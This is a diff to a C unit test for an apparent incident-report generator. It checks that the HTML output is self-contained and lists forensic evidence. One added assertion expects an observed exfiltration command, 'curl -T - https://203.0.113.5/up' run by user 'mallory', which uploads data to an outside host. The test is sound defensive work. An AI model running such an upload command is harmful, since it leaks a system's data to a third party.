@@ -484,11 +484,16 @@ static void the_html_page_ranks_incidents_and_draws_people(void **state)
 	assert_int_equal(count_of(c.out, "<svg class=\"timeline\""), 2);
 	assert_non_null(strstr(c.out, "read 99 files, until 2026-11-20 23:11:38 of customers"));
 	assert_non_null(strstr(c.out, "102 records of evidence"));
+	assert_non_null(strstr(c.out, "curl -T - https://203.0.113.5/up (/usr/bin/curl, pid 3302, uid mallory)"));
 	assert_non_null(strstr(c.out, "sensor lost 42 records on cpu 1"));
 	/* Self-contained: nothing to fetch, nothing to run. */
 	assert_null(strstr(c.out, "<script"));
-	assert_null(strstr(c.out, "http:"));
-	assert_null(strstr(c.out, "https:"));
+	/* No address in an attribute: an address in text (curl's command
+	 * line below) is something read, not something fetched. */
+	assert_null(strstr(c.out, "=\"http"));
+	assert_null(strstr(c.out, "='http"));
+	assert_null(strstr(c.out, "=http"));
+	assert_int_equal(count_of(c.out, "href="), count_of(c.out, "href=\"#"));
 	assert_null(strstr(c.out, "src="));
 	assert_null(strstr(c.out, "url("));
 	cli_free(&c);
